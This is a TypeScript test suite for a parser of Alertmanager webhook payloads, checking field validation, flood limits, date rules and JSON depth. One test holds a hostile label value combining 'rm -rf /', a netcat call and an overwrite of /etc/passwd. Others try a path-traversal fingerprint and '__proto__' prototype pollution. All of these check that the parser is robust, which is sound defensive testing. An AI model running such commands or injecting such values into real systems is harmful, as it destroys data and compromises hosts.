import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { isRfc3339, parseJsonBody, parseWebhookPayload } from '../../../../remediator/ingress/parse-webhook-payload.js';
import { DEFAULT_PAYLOAD_LIMITS } from '../../../../remediator/ingress/webhook-payload.js';
import { amFixture } from '../../../helpers/alertmanager-fixtures.js';

const parse = (body: unknown) => parseWebhookPayload(body, DEFAULT_PAYLOAD_LIMITS);

describe('parseWebhookPayload', () => {
  it('reads every real Alertmanager 0.25 capture', () => {
    for (const name of [
      'am-0.25-gpu-lost-firing.json',
      'am-0.25-gpu-lost-group-grew.json',
      'am-0.25-gpu-lost-mixed.json',
      'am-0.25-gpu-lost-resolved.json',
      'am-0.25-runner-hung-firing.json',
    ]) {
      const r = parse(amFixture(name));
      assert.ok(r.ok, `${name}: ${JSON.stringify(r)}`);
      assert.equal(r.payload.receiver, 'remediator');
      assert.ok(r.payload.alerts.length >= 1);
      for (const a of r.payload.alerts) assert.match(a.fingerprint, /^[0-9a-f]{16}$/);
    }
  });

  it('keeps mixed firing and resolved alerts of one group apart', () => {
    const r = parse(amFixture('am-0.25-gpu-lost-mixed.json'));
    assert.ok(r.ok);
    assert.deepEqual(r.payload.alerts.map((a) => a.status).sort(), ['firing', 'resolved']);
    const resolved = r.payload.alerts.find((a) => a.status === 'resolved')!;
    assert.notEqual(resolved.endsAt, '0001-01-01T00:00:00Z');
    assert.equal(resolved.labels.ollama, 'main');
  });

  it('ignores fields newer Alertmanagers add (notification_reason, routeLabels, unknown alert fields)', () => {
    const r = parse(amFixture('am-newer-fields-derived.json'));
    assert.ok(r.ok);
    assert.equal(r.payload.alerts[0]!.labels.alertname, 'OllamaGpuAccessLost');
    assert.equal('notification_reason' in r.payload, false);
  });

  it('names the offending field for wrong types', () => {
    const good = amFixture('am-0.25-gpu-lost-firing.json');
    const alert0 = (good.alerts as Record<string, unknown>[])[0]!;
    const cases: [unknown, string][] = [
      [[], '(body)'],
      ['text', '(body)'],
      [{ ...good, version: 4 }, 'version'],
      [{ ...good, version: '3' }, 'version'],
      [{ ...good, alerts: 'x' }, 'alerts'],
      [{ ...good, receiver: 7 }, 'receiver'],
      [{ ...good, truncatedAlerts: -1 }, 'truncatedAlerts'],
      [{ ...good, alerts: [null] }, 'alerts[0]'],
      [{ ...good, alerts: [{ ...alert0, status: 'pending' }] }, 'alerts[0].status'],
      [{ ...good, alerts: [{ ...alert0, fingerprint: 12 }] }, 'alerts[0].fingerprint'],
      [{ ...good, alerts: [{ ...alert0, fingerprint: '../../etc/passwd' }] }, 'alerts[0].fingerprint'],
      [{ ...good, alerts: [alert0, { ...alert0, labels: { ollama: 1 } }] }, 'alerts[1].labels'],
      [{ ...good, alerts: [{ ...alert0, labels: ['a'] }] }, 'alerts[0].labels'],
      [{ ...good, alerts: [{ ...alert0, annotations: { summary: {} } }] }, 'alerts[0].annotations'],
      [{ ...good, alerts: [{ ...alert0, startsAt: 'yesterday' }] }, 'alerts[0].startsAt'],
      [{ ...good, alerts: [{ ...alert0, endsAt: 0 }] }, 'alerts[0].endsAt'],
    ];
    for (const [body, field] of cases) {
      const r = parse(body);
      assert.equal(r.ok, false, `${field} should be refused`);
      if (!r.ok) {
        assert.equal(r.field, field);
        assert.equal(r.status, 400);
      }
    }
  });

  it('treats shell metacharacters and "__proto__" in labels as plain data', () => {
    const good = amFixture('am-0.25-gpu-lost-firing.json');
    const alert0 = (good.alerts as Record<string, unknown>[])[0]!;
    const nasty = '$(rm -rf /); `reboot` | nc 10.0.0.1 9 && echo "x" > /etc/passwd\n\'';
    const labels = JSON.parse(
      `{"ollama": ${JSON.stringify(nasty)}, "__proto__": "polluted", "constructor": "x"}`,
    ) as Record<string, string>;
    const r = parse({ ...good, alerts: [{ ...alert0, labels }] });
    assert.ok(r.ok);
    const got = r.payload.alerts[0]!.labels;
    assert.equal(got.ollama, nasty);
    assert.equal(Object.getOwnPropertyDescriptor(got, '__proto__')?.value, 'polluted');
    assert.equal(Object.getPrototypeOf(got), Object.prototype);
    assert.equal(({} as Record<string, unknown>).polluted, undefined);
  });

  it('bounds floods: too many alerts is 413, too many or too long labels is 400', () => {
    const good = amFixture('am-0.25-gpu-lost-firing.json');
    const alert0 = (good.alerts as Record<string, unknown>[])[0]!;
    const many = parseWebhookPayload(
      { ...good, alerts: Array.from({ length: 11 }, () => alert0) },
      { ...DEFAULT_PAYLOAD_LIMITS, maxAlerts: 10 },
    );
    assert.equal(many.ok, false);
    if (!many.ok) assert.equal(many.status, 413);
    const wide = parse({
      ...good,
      alerts: [{ ...alert0, labels: Object.fromEntries(Array.from({ length: 200 }, (_, i) => [`l${i}`, 'v'])) }],
    });
    assert.equal(wide.ok, false);
    const long = parse({ ...good, alerts: [{ ...alert0, labels: { ollama: 'x'.repeat(10_000) } }] });
    assert.equal(long.ok, false);
    if (!long.ok) assert.equal(long.field, 'alerts[0].labels');
  });

  it('refuses times that do not exist (Date.parse rolls 2026-02-30 over to March 2nd)', () => {
    const good = amFixture('am-0.25-gpu-lost-firing.json');
    const alert = (good.alerts as Record<string, unknown>[])[0]!;
    for (const startsAt of [
      '2026-02-30T00:00:00Z',
      '2026-02-29T00:00:00Z',
      '2026-04-31T00:00:00Z',
      '2026-01-01T24:00:00Z',
    ]) {
      const r = parse({ ...good, alerts: [{ ...alert, startsAt }] });
      assert.ok(!r.ok && r.field === 'alerts[0].startsAt', `${startsAt}: ${JSON.stringify(r)}`);
    }
    assert.equal(isRfc3339('2024-02-29T23:59:59.999999999+05:30'), true, 'a leap day');
    assert.equal(isRfc3339('0001-01-01T00:00:00Z'), true, "Alertmanager's zero endsAt");
    assert.equal(isRfc3339('2026-01-01T00:00:00+24:00'), false);
  });

  it('refuses JSON nested deeper than a webhook ever is, and names deep values without overflowing', () => {
    const deep = (n: number) => `${'['.repeat(n)}${']'.repeat(n)}`;
    assert.deepEqual(parseJsonBody(`{"alerts":${deep(100_000)}}`), {
      ok: false,
      problem: 'body is nested more than 32 levels deep',
    });
    assert.equal(parseJsonBody(`{"a":"${'['.repeat(100)}"}`).ok, true, 'brackets inside strings do not count');
    assert.equal(parseJsonBody(`{"a":"\\"${'['.repeat(40)}"}`).ok, true, 'an escaped quote does not end the string');
    const r = parse({ version: JSON.parse(deep(10_000)) as unknown });
    assert.ok(!r.ok && r.field === 'version', JSON.stringify(r));
  });
});
